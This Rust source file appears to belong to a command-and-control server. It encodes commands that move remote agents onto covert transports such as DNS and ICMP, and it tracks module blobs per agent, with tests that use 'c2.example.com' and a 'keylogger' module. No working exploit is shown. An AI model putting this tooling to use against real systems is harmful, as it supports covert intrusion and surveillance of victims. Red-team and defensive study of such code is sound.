//! Wire payloads for task kinds that need their own encoding distinct from
//! the opaque byte blobs `TaskKind` otherwise carries.

use dashmap::DashMap;

use crate::error::{Error, Result};
use crate::id::AgentId;
use crate::transport::TransportKind;

/// Marks the start of a [`ProtocolSwitchPayload`] body.
pub const PROTOCOL_SWITCH_MAGIC: &[u8; 4] = b"PSWC";

/// Fixed width of the zero-padded `domain` field.
pub const PROTOCOL_SWITCH_DOMAIN_LEN: usize = 256;

/// Total wire size of a [`ProtocolSwitchPayload`]: `magic(4) + transport(1)
/// + port(2) + domain(256) + timeout_ms(4) + flags(1)`.
pub const PROTOCOL_SWITCH_PAYLOAD_LEN: usize = 4 + 1 + 2 + PROTOCOL_SWITCH_DOMAIN_LEN + 4 + 1;

/// Bit 0 of [`ProtocolSwitchPayload::flags`]: switch immediately rather than
/// waiting for the agent's current task to finish.
pub const PROTOCOL_SWITCH_FLAG_IMMEDIATE: u8 = 0b0000_0001;
/// Bit 1: if the new transport can't be reached, fall back to the current
/// one instead of disconnecting.
pub const PROTOCOL_SWITCH_FLAG_FALLBACK: u8 = 0b0000_0010;
/// Bit 2: the switch is temporary; the agent is expected to switch back on
/// its own once whatever prompted it has passed.
pub const PROTOCOL_SWITCH_FLAG_TEMPORARY: u8 = 0b0000_0100;
/// Bit 3: the switch is mandatory even if the agent would otherwise refuse
/// it (e.g. because a task is in flight).
pub const PROTOCOL_SWITCH_FLAG_FORCED: u8 = 0b0000_1000;

/// The body of a `ProtocolSwitch` task: which transport to move to, where on
/// it to reconnect, and how to behave while doing so. A fixed-width layout
/// since this is the one payload the server itself parses, not just passes
/// through to the agent.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ProtocolSwitchPayload {
    pub transport: TransportKind,
    pub port: u16,
    pub domain: String,
    pub timeout_ms: u32,
    pub flags: u8,
}

impl ProtocolSwitchPayload {
    pub fn is_immediate(&self) -> bool {
        self.flags & PROTOCOL_SWITCH_FLAG_IMMEDIATE != 0
    }

    pub fn is_fallback(&self) -> bool {
        self.flags & PROTOCOL_SWITCH_FLAG_FALLBACK != 0
    }

    pub fn is_temporary(&self) -> bool {
        self.flags & PROTOCOL_SWITCH_FLAG_TEMPORARY != 0
    }

    pub fn is_forced(&self) -> bool {
        self.flags & PROTOCOL_SWITCH_FLAG_FORCED != 0
    }

    pub fn encode(&self) -> Result<Vec<u8>> {
        let domain = self.domain.as_bytes();
        if domain.len() > PROTOCOL_SWITCH_DOMAIN_LEN {
            return Err(Error::invalid_argument(format!(
                "protocol-switch domain is {} bytes, more than the {PROTOCOL_SWITCH_DOMAIN_LEN} maximum",
                domain.len()
            )));
        }
        let mut out = Vec::with_capacity(PROTOCOL_SWITCH_PAYLOAD_LEN);
        out.extend_from_slice(PROTOCOL_SWITCH_MAGIC);
        out.push(transport_kind_to_byte(self.transport));
        out.extend_from_slice(&self.port.to_be_bytes());
        let mut domain_field = [0u8; PROTOCOL_SWITCH_DOMAIN_LEN];
        domain_field[..domain.len()].copy_from_slice(domain);
        out.extend_from_slice(&domain_field);
        out.extend_from_slice(&self.timeout_ms.to_be_bytes());
        out.push(self.flags);
        Ok(out)
    }

    pub fn decode(bytes: &[u8]) -> Result<Self> {
        if bytes.len() < PROTOCOL_SWITCH_PAYLOAD_LEN || &bytes[0..4] != PROTOCOL_SWITCH_MAGIC {
            return Err(Error::protocol("not a protocol-switch payload"));
        }
        let transport = transport_kind_from_byte(bytes[4])?;
        let port = u16::from_be_bytes([bytes[5], bytes[6]]);
        let domain_field = &bytes[7..7 + PROTOCOL_SWITCH_DOMAIN_LEN];
        let domain_len = domain_field.iter().position(|&b| b == 0).unwrap_or(domain_field.len());
        let domain = String::from_utf8(domain_field[..domain_len].to_vec())
            .map_err(|_| Error::protocol("protocol-switch domain is not utf-8"))?;
        let timeout_start = 7 + PROTOCOL_SWITCH_DOMAIN_LEN;
        let timeout_ms = u32::from_be_bytes([
            bytes[timeout_start],
            bytes[timeout_start + 1],
            bytes[timeout_start + 2],
            bytes[timeout_start + 3],
        ]);
        let flags = bytes[timeout_start + 4];
        Ok(Self {
            transport,
            port,
            domain,
            timeout_ms,
            flags,
        })
    }
}

fn transport_kind_to_byte(kind: TransportKind) -> u8 {
    match kind {
        TransportKind::Tcp => 0,
        TransportKind::Udp => 1,
        TransportKind::Ws => 2,
        TransportKind::Icmp => 3,
        TransportKind::Dns => 4,
    }
}

fn transport_kind_from_byte(byte: u8) -> Result<TransportKind> {
    match byte {
        0 => Ok(TransportKind::Tcp),
        1 => Ok(TransportKind::Udp),
        2 => Ok(TransportKind::Ws),
        3 => Ok(TransportKind::Icmp),
        4 => Ok(TransportKind::Dns),
        other => Err(Error::protocol(format!("unknown transport kind byte {other}"))),
    }
}

/// Tracks which modules are loaded per agent, and holds the module blobs
/// themselves, each tagged with a version. The blob bytes are opaque here —
/// interpreting and executing them is an agent-side concern this crate
/// doesn't implement; this type only resolves a name to the bytes a
/// `ModuleLoad` task should carry.
#[derive(Default)]
pub struct ModuleStore {
    loaded: DashMap<AgentId, Vec<String>>,
    blobs: DashMap<String, (Vec<u8>, u32)>,
}

impl ModuleStore {
    pub fn new() -> Self {
        Self::default()
    }

    /// Registers (or replaces) the blob stored under `name`, bumping its
    /// version.
    pub fn store_blob(&self, name: String, bytes: Vec<u8>) {
        let version = self.blobs.get(&name).map(|entry| entry.1 + 1).unwrap_or(1);
        self.blobs.insert(name, (bytes, version));
    }

    /// Resolves `name` to its stored blob, failing with `NotFound` if
    /// nothing has been registered under it.
    pub fn resolve(&self, name: &str) -> Result<Vec<u8>> {
        self.blobs
            .get(name)
            .map(|entry| entry.0.clone())
            .ok_or_else(|| Error::not_found(format!("module {name} not found")))
    }

    pub fn blob_version(&self, name: &str) -> Option<u32> {
        self.blobs.get(name).map(|entry| entry.1)
    }

    pub fn record_load(&self, agent: AgentId, name: String) {
        let mut entry = self.loaded.entry(agent).or_default();
        if !entry.contains(&name) {
            entry.push(name);
        }
    }

    pub fn record_unload(&self, agent: AgentId, name: &str) {
        if let Some(mut entry) = self.loaded.get_mut(&agent) {
            entry.retain(|loaded| loaded != name);
        }
    }

    pub fn loaded_for(&self, agent: AgentId) -> Vec<String> {
        self.loaded.get(&agent).map(|entry| entry.clone()).unwrap_or_default()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn protocol_switch_round_trips() {
        let payload = ProtocolSwitchPayload {
            transport: TransportKind::Dns,
            port: 53,
            domain: "c2.example.com".into(),
            timeout_ms: 5_000,
            flags: PROTOCOL_SWITCH_FLAG_IMMEDIATE | PROTOCOL_SWITCH_FLAG_FALLBACK,
        };
        let encoded = payload.encode().unwrap();
        assert_eq!(encoded.len(), PROTOCOL_SWITCH_PAYLOAD_LEN);
        let decoded = ProtocolSwitchPayload::decode(&encoded).unwrap();
        assert_eq!(decoded, payload);
        assert!(decoded.is_immediate());
        assert!(decoded.is_fallback());
        assert!(!decoded.is_temporary());
        assert!(!decoded.is_forced());
    }

    #[test]
    fn rejects_payload_without_magic() {
        assert!(ProtocolSwitchPayload::decode(b"nope").is_err());
    }

    #[test]
    fn rejects_domain_longer_than_the_fixed_field() {
        let payload = ProtocolSwitchPayload {
            transport: TransportKind::Tcp,
            port: 443,
            domain: "x".repeat(PROTOCOL_SWITCH_DOMAIN_LEN + 1),
            timeout_ms: 0,
            flags: 0,
        };
        assert!(payload.encode().is_err());
    }

    #[test]
    fn module_store_tracks_load_and_unload() {
        let store = ModuleStore::new();
        let agent = AgentId::new();
        store.record_load(agent, "keylogger".into());
        store.record_load(agent, "keylogger".into());
        assert_eq!(store.loaded_for(agent), vec!["keylogger".to_string()]);
        store.record_unload(agent, "keylogger");
        assert!(store.loaded_for(agent).is_empty());
    }

    #[test]
    fn module_store_resolves_registered_blobs() {
        let store = ModuleStore::new();
        store.store_blob("keylogger".into(), vec![1, 2, 3]);
        assert_eq!(store.resolve("keylogger").unwrap(), vec![1, 2, 3]);
        assert_eq!(store.blob_version("keylogger"), Some(1));
        store.store_blob("keylogger".into(), vec![4, 5]);
        assert_eq!(store.resolve("keylogger").unwrap(), vec![4, 5]);
        assert_eq!(store.blob_version("keylogger"), Some(2));
    }

    #[test]
    fn module_store_resolve_fails_for_an_unregistered_name() {
        let store = ModuleStore::new();
        assert!(store.resolve("ghost").is_err());
    }
}
